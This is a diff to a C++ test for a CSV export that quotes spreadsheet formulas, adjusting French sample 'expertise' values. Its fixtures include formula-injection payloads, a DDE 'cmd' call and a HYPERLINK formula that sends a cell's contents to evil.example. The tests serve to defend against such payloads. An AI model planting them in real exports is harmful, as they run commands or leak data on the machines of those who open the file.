@@ -465,7 +465,11 @@ TEST_CASE("a declared value =1+1 reads '=1+1 in the CSV export: formulas are neu
     REQUIRE(chosen.size() == 5);
     const std::vector<std::string> site_names = {"=1+1", "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3",
                                                  "=HYPERLINK(\"http://evil.example/?\"&A1;\"Cliquez\")"};
-    const std::vector<std::string> expertise = {"\tcalc", "\r=1+1", "ligne 1\r\nligne 2; \"citée\"", "A;B", "1+1="};
+    // Declarations trim leading tabs and CRs and store CR LF as LF, so those cells are checked by the
+    // unit test of append_csv_text; here, texts a professional can declare.
+    const std::vector<std::string> expertise = {"=SUM(A1:A9)", "+1 an d'expérience", "ligne 1\r\nligne 2; \"citée\"", "A;B", "1+1="};
+    const std::vector<std::string> stored_expertise = {"=SUM(A1:A9)", "+1 an d'expérience", "ligne 1\nligne 2; \"citée\"", "A;B",
+                                                       "1+1="};
     json corrections = json::array(), practitioners = json::array();
     for (std::size_t i = 0; i < chosen.size(); ++i) {
         corrections.push_back({{"site_id", chosen[i]["site_id"]}, {"field", "site_name"}, {"value", site_names[i]}});
@@ -495,7 +499,8 @@ TEST_CASE("a declared value =1+1 reads '=1+1 in the CSV export: formulas are neu
     };
     const std::vector<std::string> neutral_names = {"'=1+1", "'+cmd|' /C calc'!A0", "'@SUM(1)", "'-2+3",
                                                     "'=HYPERLINK(\"http://evil.example/?\"&A1;\"Cliquez\")"};
-    const std::vector<std::string> neutral_expertise = {"'\tcalc", "'\r=1+1", "ligne 1\r\nligne 2; \"citée\"", "A;B", "1+1="};
+    const std::vector<std::string> neutral_expertise = {"'=SUM(A1:A9)", "'+1 an d'expérience", "ligne 1\nligne 2; \"citée\"", "A;B",
+                                                        "1+1="};
     for (std::size_t i = 0; i < chosen.size(); ++i) {
         const auto& row = row_of(chosen[i]);
         CHECK(row[column("site_name")] == neutral_names[i]);
@@ -504,7 +509,7 @@ TEST_CASE("a declared value =1+1 reads '=1+1 in the CSV export: formulas are neu
     // In the file itself: quoted where a ';', a quote or a line break is inside, quotes doubled.
     CHECK(response.body.find(";'=1+1;") != std::string::npos);
     CHECK(response.body.find(";\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1;\"\"Cliquez\"\")\";") != std::string::npos);
-    CHECK(response.body.find(";\"ligne 1\r\nligne 2; \"\"citée\"\"\";") != std::string::npos);
+    CHECK(response.body.find(";\"ligne 1\nligne 2; \"\"citée\"\"\";") != std::string::npos);
     // A number is data: the negative longitude is written as it is.
     CHECK(row_of(chosen[0])[column("lon")] == "-1.5536");
     CHECK(row_of(chosen[0])[column("lat")] == "47.2184");
@@ -515,7 +520,7 @@ TEST_CASE("a declared value =1+1 reads '=1+1 in the CSV export: formulas are neu
         const auto* feature = feature_at(geojson["features"], chosen[i]["id"], chosen[i]["site_id"].get<long long>());
         REQUIRE(feature != nullptr);
         CHECK((*feature)["properties"]["site_name"] == site_names[i]);
-        CHECK((*feature)["properties"]["expertise"] == expertise[i]);
+        CHECK((*feature)["properties"]["expertise"] == stored_expertise[i]);
     }
     const auto* west = feature_at(geojson["features"], chosen[0]["id"], west_site);
     REQUIRE(west != nullptr);
